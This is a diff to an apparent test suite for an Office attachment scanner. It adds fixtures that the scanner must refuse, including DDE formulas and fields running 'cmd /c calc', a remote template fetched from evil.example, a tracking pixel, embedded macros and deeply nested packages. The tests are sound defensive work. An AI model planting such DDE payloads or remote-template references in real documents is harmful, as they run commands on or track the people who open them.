@@ -7,6 +7,13 @@ import { getFileRefusal, getFileRefusalCode } from '../testing/refusal-of.ts';
 const MACRO_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';
 const PACKED = aCompoundFile({ '\x01Ole10Native': Buffer.from('setup.exe'), '\x01CompObj': Buffer.alloc(80) });
 
+const DDE_TABLE = anXlsx({ 'xl/worksheets/sheet1.xml': `<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>` });
+const anXlsb = () => anXlsx({ '[Content_Types].xml': typesOf(TYPE_OF_BINARY), 'xl/a.bin': 'x' });
+const DDE_FIELD = '\x13 DDEAUTO cmd "/c calc" \x15';
+const REMOTE = aRelation('attachedTemplate', 'https://evil.example/a.dotm');
+const nested = (levels: number): Buffer =>
+  levels === 0 ? aDocx() : aDocx({ 'word/embeddings/a.docx': nested(levels - 1) });
+
 const XLSX_PARTS = {
   '[Content_Types].xml':
     '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
@@ -88,6 +95,8 @@ describe('an object in a file', () => {
   test.each<[string, string, Buffer | string]>([
     ['is a table behind a chart', 'word/embeddings/Microsoft_Excel_Sheet.xlsx', anXlsx()],
     ['is a letter of Word 97', 'word/embeddings/oleObject1.bin', aDoc()],
+    ['is a letter with a table in it', 'word/embeddings/a.docx', aDocx({ 'word/embeddings/b.xlsx': anXlsx() })],
+    ['is a table in an object', 'word/embeddings/oleObject1.bin', aCompoundFile({ Package: anXlsx() })],
   ])('passes that %s', async (_what, path, content) => {
     expect(await getFileRefusalCode('docx', aDocx({ [path]: content }))).toBeNull();
   });
@@ -99,10 +108,38 @@ describe('an object in a file', () => {
       'word/embeddings/oleObject1.bin',
       aDoc({ 'Macros/VBA/_VBA_PROJECT': Buffer.alloc(9), 'Macros/VBA/a': Buffer.alloc(9) }),
     ],
-    ['is a workbook in a format with macros', 'word/embeddings/Sheet.xlsb', anXlsx()],
+    ['is a workbook in a format with macros', 'word/embeddings/Sheet.xlsb', anXlsb()],
     ['is no object', 'word/embeddings/oleObject1.bin', 'MZ'],
+    ['is a table that starts a program', 'word/embeddings/Sheet.xlsx', DDE_TABLE],
+    ['has such a table in it', 'word/embeddings/a.docx', aDocx({ 'word/embeddings/b.xlsx': DDE_TABLE })],
+    ['has such a table in an object', 'word/embeddings/oleObject1.bin', aCompoundFile({ Package: DDE_TABLE })],
+    ['is a letter of Word 97 that starts a program', 'word/embeddings/oleObject1.bin', aDoc({}, 0, DDE_FIELD)],
+    ['is a letter that loads a template', 'word/embeddings/a.docx', aDocx(REMOTE)],
+    ['is a letter with macros in the newer format', 'word/embeddings/a.docx', aDocx({ 'word/vbaProject.bin': 'x' })],
+    ['is no file of Office', 'word/embeddings/a.docx', aZip({ 'a.txt': 'x' })],
+    ['is nested too deep', 'word/embeddings/a.docx', nested(6)],
+    ['is encrypted', 'word/embeddings/oleObject1.bin', aCompoundFile({ EncryptedPackage: Buffer.alloc(9_000) })],
   ])('is refused that %s', async (_what, path, content) => {
     expect(await getFileRefusalCode('docx', aDocx({ [path]: content }))).toBe('attachment_unsafe');
+  });
+});
+
+describe('a file that a letter refers to, under any name,', () => {
+  test.each<[string, string, Buffer | string, boolean]>([
+    ['an object', 'oleObject', PACKED, false],
+    ['a table', 'package', DDE_TABLE, false],
+    ['a table without harm', 'package', anXlsx(), true],
+    ['a letter to insert', 'aFChunk', aDocx(REMOTE), false],
+    ['a text to insert', 'aFChunk', '{\\rtf1 {\\object{\\*\\objdata 01}}}', false],
+    ['a text to insert without harm', 'aFChunk', '{\\rtf1 Hello}', true],
+    ['a page to insert', 'aFChunk', '<html><img src="https://evil.example/pixel.png"></html>', false],
+  ])('is checked as %s', async (_what, type, content, passes) => {
+    const relations = aRelation(type, '../a/File%201.dat');
+    const inside = Object.fromEntries(
+      Object.entries(relations).map(([path, text]) => [path, String(text).replace(' TargetMode="External"', '')]),
+    );
+    const refusal = await getFileRefusalCode('docx', aDocx({ ...inside, 'a/file 1.dat': content }));
+    expect(refusal).toBe(passes ? null : 'attachment_unsafe');
   });
 });
 
